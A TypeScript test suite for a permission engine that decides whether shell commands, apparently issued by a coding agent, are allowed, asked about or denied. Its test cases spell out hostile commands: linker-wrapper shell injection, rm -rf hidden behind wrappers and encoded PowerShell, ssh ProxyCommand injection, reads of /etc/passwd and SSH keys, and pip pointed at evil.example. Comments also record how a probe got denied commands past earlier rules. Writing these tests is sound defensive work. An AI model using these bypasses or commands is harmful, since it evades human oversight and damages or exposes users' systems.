    // The probe's line: clippy-driver is rustc, and `-C link-arg=-wrapper …` had the linker run the call's shell.
    ['cargo clippy', `cargo clippy -- --emit=link --crate-type=cdylib -C link-arg=-wrapper '-Clink-arg=/bin/sh,-c,id > PWNED; exec "$0" "$@"'`],
    ['cargo clippy', 'cargo clippy -- -C linker=/tmp/evil'],
    ['cargo clippy', 'cargo clippy --all-targets -- -Z unpretty=expanded'],
    ['cargo clippy', 'cargo clippy -- -D warnings'],
    // The test binary writes its log where it is told: over a source file here.
    ['cargo test', 'cargo test -- --logfile src/lib.rs'],
    ['cargo test', 'cargo test -p core -- --nocapture'],
    ['cargo bench', 'cargo bench -- --logfile x'],
    ['cargo fmt', 'cargo fmt -- /etc/x.rs'],
    ['cargo run', 'cargo run -- --port 1'],
    ['cargo', 'cargo test -- --logfile src/lib.rs'],
    ['cargo test --', 'cargo test -- --logfile src/lib.rs'],
    ['cargo test -- --nocapture', 'cargo test -- --nocapture --logfile src/lib.rs'],
    // `cargo run` hands the program every word from its first operand on, options too.
    ['cargo run', 'cargo run .git/COMMIT_EDITMSG'],
    ['cargo run', 'cargo run --release x --flag'],
    ['cargo run', 'cargo run --bin server serve --port 1'],
    ['cargo run', 'cargo run "$HOME"'],
    ['cargo', 'cargo --locked run x'],
    ['cargo', 'cargo r x'],
    ['cargo run --bin server', 'cargo run --bin server x'],
    // `--fix` rewrites the sources.
    ['cargo clippy', 'cargo clippy --fix --allow-dirty --allow-no-vcs'],
    ['cargo clippy', 'cargo clippy --fix=x'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['cargo test', 'cargo test'],
    ['cargo test', 'cargo test -p core my_test --release'],
    ['cargo test', 'cargo test --'],
    ['cargo build', 'cargo build --release --all-features'],
    ['cargo clippy', 'cargo clippy'],
    ['cargo clippy', 'cargo clippy --all-targets --features x'],
    ['cargo clippy -- -D warnings', 'cargo clippy -- -D warnings'],
    ['cargo clippy --fix', 'cargo clippy --fix --allow-dirty'],
    ['cargo run', 'cargo run'],
    ['cargo run', 'cargo run --release --bin server -p app --features x'],
    ['cargo run x', 'cargo run x'],
    ['cargo', 'cargo test my_test'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('a rule for a program of the workspace covers only the words it names', () => {
  it.each([
    // The probe's line: the script runs `exec node --test "$@"`, and a call under a git commit rule wrote the file.
    ['./scripts/test.sh', './scripts/test.sh .git/COMMIT_EDITMSG'],
    ['./manage.py', "./manage.py shell -c 'import os'"],
    ['./manage.py test', './manage.py test --settings=evil'],
    ['./node_modules/.bin/vitest', './node_modules/.bin/vitest run --globalSetup=./.git/COMMIT_EDITMSG'],
    ['./node_modules/.bin/vitest run', './node_modules/.bin/vitest run --globalSetup=./.git/COMMIT_EDITMSG'],
    ['./node_modules/.bin/jest', './node_modules/.bin/jest --config x'],
    ['./cat', './cat .git/config'],
    ['scripts/test.sh', 'scripts/test.sh x'],
    ['uv run ./scripts/test.sh', 'uv run ./scripts/test.sh x'],
    ['./scripts/test.sh', './scripts/test.sh "$HOME"'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['./scripts/test.sh', './scripts/test.sh'],
    ['./manage.py test', './manage.py test'],
    ['./node_modules/.bin/vitest run', './node_modules/.bin/vitest run'],
    ['uv run ./scripts/test.sh', 'uv run ./scripts/test.sh'],
    ['/usr/bin/cat', '/usr/bin/cat a.txt'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('go: no option that writes a file where the call says, changes go.mod, or goes to the test binary', () => {
  it.each([
    ['go build', 'go build -o /usr/local/bin/git .'],
    ['go build', 'go build -o=/usr/local/bin/git .'],
    ['go build', 'go build --o /usr/local/bin/git .'],
    ['go build', 'go build --o=x .'],
    ['go test', 'go test -c -o ~/.bashrc ./...'],
    ['go test', 'go test -coverprofile=/home/me/.bashrc ./...'],
    ['go test', 'go test --coverprofile /tmp/x ./...'],
    ['go test', 'go test -cpuprofile x ./...'],
    ['go test', 'go test -memprofile x ./...'],
    ['go test', 'go test -blockprofile x ./...'],
    ['go test', 'go test -mutexprofile x ./...'],
    ['go test', 'go test -trace x ./...'],
    ['go test', 'go test -outputdir /tmp ./...'],
    ['go test', 'go test ./... -args -test.coverprofile=/home/me/.bashrc'],
    ['go test', 'go test ./... --args x'],
    ['go test', 'go test -test.coverprofile=x ./...'],
    ['go test', 'go test --test.testlogfile=src/a.go ./...'],
    ['go build', 'go build -asmflags=-o=/tmp/x ./...'],
    ['go build', 'go build -pgo=/tmp/x.pprof ./...'],
    ['go build', 'go build -mod=mod ./...'],
    ['go build', 'go build -mod mod ./...'],
    ['go build', 'go build -modfile=/tmp/go.mod ./...'],
    ['go build', 'go build -overlay=/tmp/o.json ./...'],
    ['go build', 'go build -pkgdir /tmp/p ./...'],
    ['go build', 'go build -debug-actiongraph=/tmp/x ./...'],
    ['go test -args', 'go test -args -test.v'],
    ['go test ./... -args -test.v', 'go test ./... -args -test.v -test.coverprofile=x'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['go test', 'go test ./...'],
    ['go test', 'go test -json -count=1 -run=TestCase -v -race -cover ./...'],
    ['go test', 'go test -run TestConfig ./pkg/...'],
    ['go test', 'go test -c ./pkg'],
    ['go test', 'go test ./... -args'],
    ['go build', 'go build ./...'],
    ['go build', 'go build -mod=vendor -trimpath -tags=integration ./...'],
    ['go build', 'go build --mod=readonly ./...'],
    ['go vet', 'go vet ./...'],
    ['go build -o bin/app', 'go build -o bin/app ./cmd/app'],
    ['go test ./... -args -update', 'go test ./... -args -update'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

/** What an allow rule and a deny rule together decide for `command`. */
async function decideWithDeny(command: string, allow: string, deny: string, exact = false): Promise<string> {
  return decide(command, [prefix(allow, { exact }), prefix(deny, { effect: 'deny' })]);
}

describe('a deny rule catches a package manager’s subcommand by its aliases and abbreviations', () => {
  it.each([
    // The probe's lines: npm runs `publish` for any unambiguous start of it, and `install` for its aliases.
    ['npm publish', 'npm pub'],
    ['npm publish', 'npm publ'],
    ['npm publish', 'npm --silent pub'],
    ['npm install', 'npm i x'],
    ['npm install', 'npm add x'],
    ['npm install', 'npm isntall x'],
    ['npm install', 'npm in x'],
    ['npm install', 'npm inst x'],
    ['npm install', 'npm ci'],
    ['npm i', 'npm install x'],
    ['npm run deploy', 'npm run-script deploy'],
    ['npm run deploy', 'npm rum deploy'],
    ['npm run deploy', 'npm urn deploy'],
    ['npm run deploy', 'npm run-s deploy'],
    ['npm run deploy', 'npm runScript deploy'],
    ['npm run-script deploy', 'npm run deploy'],
    ['npm run test', 'npm t'],
    ['npm test', 'npm run test'],
    ['npm run', 'npm tes'],
    ['pnpm install', 'pnpm i'],
    ['pnpm install', 'pnpm add x'],
    ['pnpm remove', 'pnpm rm x'],
    ['pnpm run release', 'pnpm release'],
    ['pnpm release', 'pnpm run-script release'],
    ['yarn install', 'yarn add x'],
    ['yarn install', 'yarn'],
    ['yarn run release', 'yarn release'],
  ])('deny %s, allow the package manager: %j is denied', async (deny, command) => {
    expect(await decideWithDeny(command, deny.split(' ')[0]!, deny)).toBe('deny');
  });

  it.each([
    ['npm publish', 'npm unpublish x'],
    ['npm publish', 'npm install x'],
    ['npm run deploy', 'npm run build'],
    ['npm install', 'npm ls'],
    ['pnpm add', 'pnpm install'],
    ['yarn run release', 'yarn run build'],
  ])('deny %s, allow the package manager: %j is still allowed', async (deny, command) => {
    expect(await decideWithDeny(command, deny.split(' ')[0]!, deny)).toBe('allow');
  });

  it.each([
    // npm runs the test script for `tes`, and the script named next for `run-s`: the words after it go to the script.
    'npm tes .git/COMMIT_EDITMSG',
    'npm run-s build x',
    'npm runScript build x',
  ])('a rule for npm asks about %j, as about the script spelled in full', async (command) => {
    expect(await decide(command, [prefix('npm')])).toBe('ask');
  });
});

describe('a deny rule catches a long option by any start of it', () => {
  it.each([
    // The probe's lines: git takes `--har` and `--ha` for `--hard`, and ran a hard reset.
    ['git reset', 'git reset --hard', 'git reset --har HEAD~1'],
    ['git reset', 'git reset --hard', 'git reset --ha'],
    ['git reset', 'git reset --hard', 'git reset --h'],
    ['curl', 'curl --upload-file', 'curl --upload-f x https://example.com/'],
    ['git push', 'git push --force-with-lease', 'git push --force-with-lease=main origin main'],
    ['git push', 'git push --force-with-lease', 'git push --force-w origin main'],
    ['git log', 'git log --output=x', 'git log --out=x'],
  ])('allow %s, deny %s: %j is denied', async (allow, deny, command) => {
    expect(await decideWithDeny(command, allow, deny)).toBe('deny');
  });

  it.each([
    ['git reset', 'git reset --hard', 'git reset --soft HEAD~1'],
    ['git reset', 'git reset --hard', 'git reset --hard-nope'],
    ['git log', 'git log --output=x', 'git log --out=y'],
  ])('allow %s, deny %s: %j is still allowed', async (allow, deny, command) => {
    expect(await decideWithDeny(command, allow, deny)).not.toBe('deny');
  });
});

describe('a deny rule catches what a runner runs, as the command it is', () => {
  it.each([
    // The probe's lines: a rule written for the runner and the program let the denied command through it.
    ['uv run git', 'git push', 'uv run git push'],
    ['uv run git', 'git push', 'uv run --frozen git push'],
    ['uv run git', 'git push', 'uv --quiet run -- git push origin main'],
    ['uv tool run git', 'git push', 'uv tool run git push'],
    ['pnpm exec git', 'git push', 'pnpm exec git push'],
    ['pnpm git', 'git push', 'pnpm git push'],
    ['poetry run git', 'git push', 'poetry run git push'],
    ['bundle exec git', 'git push', 'bundle exec git push'],
    ['yarn git', 'git push', 'yarn git push'],
    ['npm exec git', 'git push', 'npm exec -- git push'],
    ['uv run rm', 'rm -rf', 'uv run rm -rf x'],
    ['uv run pnpm exec rm', 'rm -rf', 'uv run pnpm exec rm -rf x'],
    ['uv run sudo', 'rm -rf', 'uv run sudo rm -rf x'],
  ])('allow %s, deny %s: %j is denied', async (allow, deny, command) => {
    expect(await decideWithDeny(command, allow, deny)).toBe('deny');
  });

  it.each([
    // An option that is not harmless hides which word is the program: each the call may mean is judged.
    ['uv run --with x git push', 'git push'],
    ['pnpm --filter web exec git push', 'git push'],
    ['uv --directory /tmp run rm -rf x', 'rm -rf'],
  ])('an exact rule for %j, deny %s: denied', async (command, deny) => {
    expect(await decideWithDeny(command, command, deny, true)).toBe('deny');
  });

  it('still allows what the runner runs when no deny rule catches it', async () => {
    expect(await decideWithDeny('uv run git status', 'uv run git', 'git push')).toBe('allow');
  });
});

describe('a deny rule catches what a runner that fetches a package runs, and a command line it hands to a shell', () => {
  it.each([
    // The probe's lines: these runners were read by no deny rule, so a line through them was only ever asked about.
    ['git push', 'npx git push'],
    ['git push', 'npx -y -- git push origin main'],
    ['git push', 'npx -p x git push'],
    ['git push', "npx --package=x -c 'git push'"],
    ['rm -rf', "npm exec -c 'rm -rf victim'"],
    ['rm -rf', "npm exec --call='rm -rf victim'"],
    ['rm -rf', "npm x --package=x -c 'rm -rf victim'"],
    ['git push', 'uvx git push'],
    ['git push', 'uvx --from x git push'],
    ['git push', 'pnpx git push'],
    ['git push', "pnpm dlx -c 'git push'"],
    ['git push', 'pnpm dlx -c git push'],
    ['git push', "pnpm exec --shell-mode 'git push'"],
    ['git push', 'bunx git push'],
    ['git push', 'bun x git push'],
    ['npm publish', 'npx npm publish'],
    ['npm publish', "npx -c 'npm pub'"],
  ])('deny %s: %j is denied', async (deny, command) => {
    const rule = prefix(deny, { effect: 'deny' });
    expect(await evaluateRules(terminal(command), [rule], context)).toStrictEqual({ decision: 'deny', rule });
  });

  it('an exact rule for such a line does not let the denied command through', async () => {
    expect(await decideWithDeny('npx -y git push', 'npx -y git push', 'git push', true)).toBe('deny');
    expect(await decideWithDeny('bunx git push', 'bunx git push', 'git push', true)).toBe('deny');
  });
});

describe('a deny rule for git catches what an alias defined on the line names', () => {
  it.each([
    // The probe's lines: git runs the alias's command, which the rule did not see.
    'git -c alias.p=push p origin main',
    "git -c alias.p='!git push' p",
    "git -c alias.p='!git push' p origin main",
    'git -C sub -c alias.P=push p',
    'git -c alias.s=status -c alias.p=push p',
    "git -c alias.p='!f() { git push \"$@\"; }; f' p origin",
  ])('deny git push: %j is denied', async (command) => {
    const rule = prefix('git push', { effect: 'deny' });
    expect(await evaluateRules(terminal(command), [rule], context)).toStrictEqual({ decision: 'deny', rule });
  });

  it('an alias keeps the options of the call: deny git push --force catches git -c alias.p=push p --force', async () => {
    const rule = prefix('git push --force', { effect: 'deny' });
    expect(await evaluateRules(terminal('git -c alias.p=push p --force origin main'), [rule], context)).toStrictEqual({ decision: 'deny', rule });
  });

  it('git runs a builtin over an alias of its name, so an alias named status is still git status', async () => {
    expect(await decideWithDeny('git -c alias.status=push status', 'git -c alias.status=push status', 'git push', true)).toBe('allow');
  });
});

describe('a deny rule catches what runner spellings and wrappers it did not know run', () => {
  it.each([
    // The probe's lines, each run unasked with confirmation off: npm takes any unambiguous start of `exec`; pnpm's
    // `recursive` (`m`, `multi`), Yarn's `workspace NAME` and `workspaces foreach` run the rest in each package.
    ['git push', 'npm exe git push origin main'],
    ['git push', 'pnpm m exec git push'],
    ['git push', 'pnpm recursive exec git push'],
    ['git push', 'pnpm multi exec git push'],
    ['git push', 'npm explore typescript -- git push origin main'],
    ['git push', "npm explore typescript -- 'ls; git push'"],
    ['git push', 'corepack npm exec git push'],
    ['git push', 'corepack npx git push'],
    ['git push', 'corepack pnpm@9 exec git push'],
    ['npm publish', 'corepack npm publish'],
    ['git push', 'yarn workspace foo exec git push'],
    ['git push', 'yarn workspaces foreach exec git push'],
    ['git push', 'yarn workspaces foreach -A exec git push'],
    ['git push', 'yarn workspaces foreach -A --from x exec git push'],
    ['npm publish', 'yarn npm publish'],
    // Wrappers that run the command after their options, and version managers' `exec`.
    ['rm -rf', 'linux64 rm -rf v'],
    ['rm -rf', 'linux32 rm -rf v'],
    ['rm -rf', 'x86_64 rm -rf v'],
    ['rm -rf', 'i386 rm -rf v'],
    ['rm -rf', 'setarch x86_64 rm -rf v'],
    ['rm -rf', 'setarch x86_64 -R rm -rf v'],
    ['rm -rf', 'perf stat rm -rf v'],
    ['rm -rf', 'perf record -- rm -rf v'],
    ['rm -rf', 'perf trace rm -rf v'],
    ['rm -rf', 'perf stat -e cycles -r 3 rm -rf v'],
    ['rm -rf', "perf stat --pre 'rm -rf v' true"],
    ['rm -rf', 'perf sched record rm -rf v'],
    ['rm -rf', 'pyenv exec rm -rf v'],
    ['rm -rf', 'rbenv exec rm -rf v'],
    ['rm -rf', 'nodenv exec rm -rf v'],
    ['rm -rf', 'asdf exec rm -rf v'],
    ['rm -rf', 'mise exec -- rm -rf v'],
    ['rm -rf', 'mise x node@20 -- rm -rf v'],
    ['rm -rf', "mise exec -c 'rm -rf v'"],
    ['rm -rf', 'volta run rm -rf v'],
    ['rm -rf', 'volta run --node 20 rm -rf v'],
    ['rm -rf', 'fnm exec -- rm -rf v'],
    ['rm -rf', 'fnm exec --using=20 rm -rf v'],
    ['rm -rf', 'direnv exec . rm -rf v'],
    ['rm -rf', 'choom -n 0 -- rm -rf v'],
    ['rm -rf', 'rlwrap rm -rf v'],
    ['rm -rf', 'rlwrap -H h.txt rm -rf v'],
    ['rm -rf', 'chpst -u nobody rm -rf v'],
    ['rm -rf', 'tini -- rm -rf v'],
    ['rm -rf', 'dumb-init rm -rf v'],
    ['rm -rf', 'envdir d rm -rf v'],
    // GNU parallel runs its command with each argument after `:::` (quoted, appended or put for `{}`), or each
    // argument as a command line when given none; sem runs its command.
    ['rm -rf', "parallel sh -c ::: 'rm -rf v'"],
    ['rm -rf', "parallel ::: 'rm -rf v'"],
    ['rm -rf', "parallel --tag ::: true 'rm -rf v'"],
    ['rm -rf', 'parallel rm -rf ::: v'],
    ['rm -rf', "parallel 'rm -rf' ::: v"],
    ['rm -rf', 'parallel -j 4 rm -rf {} ::: v w'],
    ['rm -rf', 'parallel --jobs=2 -k rm -rf {.} ::: v.txt'],
    ['rm -rf', 'parallel --results out -- rm -rf ::: v'],
    ['rm -rf', 'parallel rm -rf :::: list'],
    ['rm -rf', 'sem -j 2 rm -rf v'],
    // The -c line of every shell, also under a versioned name, and PowerShell's -Command (any start of it, in any
    // case; the words after it are the line), -CommandWithArgs and -EncodedCommand (UTF-16 in base64).
    ['rm -rf', "csh -c 'rm -rf v'"],
    ['rm -rf', "tcsh -c 'rm -rf v'"],
    ['rm -rf', "tcsh -fc 'rm -rf v'"],
    ['rm -rf', "rbash -c 'rm -rf v'"],
    ['rm -rf', "rksh -c 'rm -rf v'"],
    ['rm -rf', "rzsh -c 'rm -rf v'"],
    ['rm -rf', "bash-5.2 -c 'rm -rf v'"],
    ['rm -rf', "ksh93 -c 'rm -rf v'"],
    ['rm -rf', "/usr/bin/bash5.2 -c 'rm -rf v'"],
    ['rm -rf', "pwsh -c 'rm -rf v'"],
    ['rm -rf', "pwsh -Command 'rm -rf v'"],
    ['rm -rf', "pwsh -COMMAND 'rm -rf v'"],
    ['rm -rf', "pwsh -com 'rm -rf v'"],
    ['rm -rf', 'pwsh -NoProfile -Command rm -rf v'],
    ['rm -rf', "pwsh -nop -ExecutionPolicy Bypass -c 'rm -rf v'"],
    ['rm -rf', "pwsh -cwa 'rm -rf v'"],
    ['rm -rf', "pwsh -CommandWithArgs 'rm -rf v' x"],
    ['rm -rf', 'pwsh -EncodedCommand cgBtACAALQByAGYAIAB2AA=='],
    ['rm -rf', 'pwsh -ec cgBtACAALQByAGYAIAB2AA=='],
    ['rm -rf', "powershell -Command 'rm -rf v'"],
    ['rm -rf', "pwsh-7.4 -c 'rm -rf v'"],
    // s6's and s6-overlay's process-state tools, as daemontools' and runit's, and the user-switching wrappers.
    ['rm -rf', 's6-setuidgid nobody rm -rf v'],
    ['rm -rf', 's6-envuidgid -D 1:1:1 nobody rm -rf v'],
    ['rm -rf', 's6-applyuidgid -u 1 -g 1 rm -rf v'],
    ['rm -rf', 's6-envdir -c x d rm -rf v'],
    ['rm -rf', 's6-softlimit -m 1000 rm -rf v'],
    ['rm -rf', 's6-setsid -d 3 rm -rf v'],
    ['rm -rf', 's6-setlock -t 5 lock rm -rf v'],
    ['rm -rf', 's6-fghack rm -rf v'],
    ['rm -rf', 'with-contenv rm -rf v'],
    ['rm -rf', 'gosu nobody rm -rf v'],
    ['rm -rf', 'su-exec nobody:nogroup rm -rf v'],
    ['rm -rf', 'pkexec --user nobody rm -rf v'],
    ['rm -rf', "s6-setuidgid nobody sh -c 'rm -rf v'"],
    ['rm -rf', 'ccache rm -rf v'],
    ['rm -rf', 'sccache rm -rf v'],
    ['rm -rf', 'systemd-inhibit --why=x rm -rf v'],
    ['rm -rf', 'runcon ctx rm -rf v'],
    ['rm -rf', 'runcon -t unconfined_t rm -rf v'],
    ['rm -rf', 'toybox rm -rf v'],
    ['rm -rf', 'busybox rm -rf v'],
    // Programs that run a command line given in an option, or in every other word (hyperfine).
    ['rm -rf', "hyperfine 'rm -rf v'"],
    ['rm -rf', "hyperfine -w 3 'ls' 'rm -rf v'"],
    ['rm -rf', "hyperfine --prepare 'rm -rf v' 'ls'"],
    ['rm -rf', "scp -o 'ProxyCommand=rm -rf v' h:x ."],
    ['rm -rf', "scp -oProxyCommand='rm -rf v' h:x ."],
    ['rm -rf', "sftp -o 'ProxyCommand rm -rf v' h"],
    ['rm -rf', "sftp -D 'rm -rf v' h"],
    ['rm -rf', "ssh -o ProxyCommand='rm -rf v' h"],
    ['rm -rf', "ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf v' h"],
    ['rm -rf', "ssh h -o proxycommand='rm -rf v'"],
    ['rm -rf', "wget --use-askpass='rm -rf v' https://example.com/"],
    ['rm -rf', "wget -e 'use_askpass=rm -rf v' https://example.com/"],
  ])('deny %s: %j is denied', async (deny, command) => {
    const rule = prefix(deny, { effect: 'deny' });
    expect(await evaluateRules(terminal(command), [rule], context)).toStrictEqual({ decision: 'deny', rule });
  });

  it.each([
    ['git push', 'pnpm recursive install'],
    ['git push', 'yarn workspaces list'],
    ['git push', 'corepack enable'],
    ['rm -rf', 'linux64 rm v'],
    ['rm -rf', 'scp -o ProxyCommand=none a h:b'],
    ['rm -rf', "hyperfine 'rm v'"],
  ])('deny %s: %j is not denied', async (deny, command) => {
    const rule = prefix(deny, { effect: 'deny' });
    expect((await evaluateRules(terminal(command), [rule], context)).decision).toBe('ask');
  });
});

describe('pip: no option that writes, reads or downloads where the call says', () => {
  it.each([
    // The probe's lines: pip appends its debug log to the file `--log` names, anywhere the process may write.
    ['pip list', 'pip list --log src-pwned.log'],
    ['pip list', 'pip list --log README.md'],
    ['pip show', 'pip show nosuchpkg --log /tmp/outside/appended.log'],
    ['pip show', 'pip show pip --log=~/.bashrc'],
    ['pip freeze', 'pip freeze --log-file x'],
    ['pip freeze', 'pip freeze --local-log x'],
    // optparse takes any unambiguous start of a long option.
    ['pip list', 'pip list --lo x'],
    ['pip list', 'pip list --log-f=x'],
    ['pip freeze', 'pip freeze -r /etc/passwd'],
    ['pip freeze', 'pip freeze -r/etc/passwd'],
    ['pip freeze', 'pip freeze -lr /etc/passwd'],
    ['pip freeze', 'pip freeze --requirement=/etc/passwd'],
    ['pip list', 'pip list --outdated --index-url https://evil.example/simple'],
    ['pip list', 'pip list -o -i https://evil.example/simple'],
    ['pip list', 'pip list --extra-index-url https://evil.example/simple'],
    ['pip list', 'pip list --trusted-host evil.example'],
    ['pip list', 'pip list --cert /tmp/ca.pem'],
    ['pip list', 'pip list --client-cert /tmp/c.pem'],
    ['pip list', 'pip list --proxy http://evil.example:3128'],
    ['pip list', 'pip list -f /tmp/wheels'],
    ['pip list', 'pip list --find-links=/tmp/wheels'],
    ['pip list', 'pip list --path /tmp/site'],
    ['pip list', 'pip list --cache-dir /tmp/c'],
    ['pip list', 'pip list --python /tmp/py'],
    ['pip check', 'pip check --log x'],
    ['pip3 list', 'pip3 list --log x'],
    ['pip3 show', 'pip3 show x --log x'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['pip list', 'pip list'],
    ['pip list', 'pip list --format=json --not-required -l'],
    ['pip list', 'pip list --outdated'],
    ['pip show', 'pip show requests'],
    ['pip freeze', 'pip freeze --all --exclude-editable'],
    ['pip check', 'pip check'],
    ['pip3 list', 'pip3 list -v'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('poetry, composer, uv and turbo: no run in another folder', () => {
  it.each([
    ['poetry show', 'poetry show -C /tmp'],
    ['poetry show', 'poetry show -C/tmp'],
    ['poetry show', 'poetry show --directory=/tmp'],
    ['poetry show', 'poetry show --directory /tmp'],
    ['poetry show', 'poetry show -P /tmp'],
    ['poetry show', 'poetry show --project=/tmp'],
    ['poetry check', 'poetry check -C ../x'],
    ['composer show', 'composer show -d /tmp'],
    ['composer show', 'composer show --working-dir=/tmp'],
    ['composer validate', 'composer validate --working-dir /tmp'],
    ['uv tree', 'uv tree --directory /tmp'],
    ['uv tree', 'uv tree --project /tmp'],
    ['uv tree', 'uv tree --script x.py'],
    ['uv tree', 'uv tree --config-file /tmp/uv.toml'],
    ['turbo ls', 'turbo ls --cwd /tmp'],
    ['turbo ls', 'turbo ls --cwd=/tmp'],
    ['go fmt', 'go fmt ../x'],
    ['go fmt', 'go fmt /tmp/x'],
    ['go fmt', 'go fmt ~/x'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['poetry show', 'poetry show --tree'],
    ['poetry check', 'poetry check --lock'],
    ['composer show', 'composer show -D'],
    ['uv tree', 'uv tree --frozen'],
    ['turbo ls', 'turbo ls --output=json'],
    ['go fmt', 'go fmt ./...'],
    ['go fmt', 'go fmt ./pkg/x'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });

  // Without `--frozen`, `uv tree` locks the project as `uv lock` does, which builds packages.
  it.each(['uv tree', 'uv tree --depth 1'])('"Always allow" on %j proposes the call exact', async (command) => {
    const proposal = await proposeRule(terminal(command), { kind: 'workspace', path: WORKSPACE }, { workspace: WORKSPACE });
    expect(proposal.match).toMatchObject({ kind: 'command-prefix', exact: true });
  });
});

describe('git: a commit rule rewrites no commit, an ls-files rule reads no file outside', () => {
  it.each([
    ['git commit', 'git commit --amend -m x'],
    ['git commit', 'git commit --amend --no-edit'],
    ['git commit', 'git commit --am -m x'],
    ['git commit -m x', 'git commit -m x --amend'],
    ['git ls-files', 'git ls-files -X /etc/passwd'],
    ['git ls-files', 'git ls-files -X/etc/passwd'],
    ['git ls-files', 'git ls-files -oX ../x'],
    ['git ls-files', 'git ls-files --exclude-from=/etc/passwd'],
    ['git ls-files', 'git ls-files --exclude-from ~/.ssh/id_rsa'],
    ['git ls-files', 'git ls-files --exclude-per-directory=../../../etc/passwd'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['git commit', 'git commit -m x'],
    ['git ls-files', 'git ls-files -o --exclude-standard'],
    ['git ls-files', 'git ls-files --exclude="*.tmp" --exclude-standard'],
    ['git ls-files', 'git ls-files -X .gitignore'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});
